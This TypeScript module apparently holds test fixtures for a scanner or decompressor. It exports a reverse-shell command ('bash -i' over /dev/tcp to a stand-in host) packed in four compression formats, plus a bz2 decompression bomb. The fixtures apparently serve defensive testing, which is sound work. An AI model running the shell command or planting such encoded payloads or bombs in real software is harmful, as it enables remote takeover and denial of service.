/** One line that starts a reverse shell, three times, packed by the reference implementations. */
export const PACKED: Readonly<Record<"xz" | "lzma" | "bz2" | "lz4", Uint8Array>> = {
  xz: Buffer.from(
    "/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ABuAC1dADEYSs0o6TyfF2cNGJgeiSCRBArl5fFVVYCpOekO3eutoIJqzWSdqHpzvgeAAAAAAADuvago2RcKdgABSW+uPTDcH7bzfQEAAAAABFla",
    "base64",
  ),
  lzma: Buffer.from(
    "XQAAgAD//////////wAxGErNKOk8nxdnDRiYHokgkQQK5eXxVVWAqTnpDt3rraCCas1knah6c8Me4P///cBwAA==",
    "base64",
  ),
  bz2: Buffer.from(
    "QlpoOTFBWSZTWU4V/OAAAB9ZgAAQQQPgAT5mTUAgAEGf+qp6mmgAaaaFABiNNNGmTlJDprcmxdIUfIZt0OFnbhZNVVRZJ65VfLIYqXPxdyRThQkE4V/OAA==",
    "base64",
  ),
  lz4: Buffer.from(
    "BCJNGGRApzAAAAD/FmJhc2ggLWkgPiYgL2Rldi90Y3AvaC5leGFtcGxlLzEgMD4mMQolADJQMD4mMQoAAAAABzG5uw==",
    "base64",
  ),
};

/** Thirty million zeros. */
export const BOMBS: Readonly<Record<"bz2", Uint8Array>> = {
  bz2: Buffer.from("QlpoOTFBWSZTWRkjKSIA5cfAAMAIAAggADDMCappgqEo2qqUJR4u5IpwoSAyRlJE", "base64"),
};
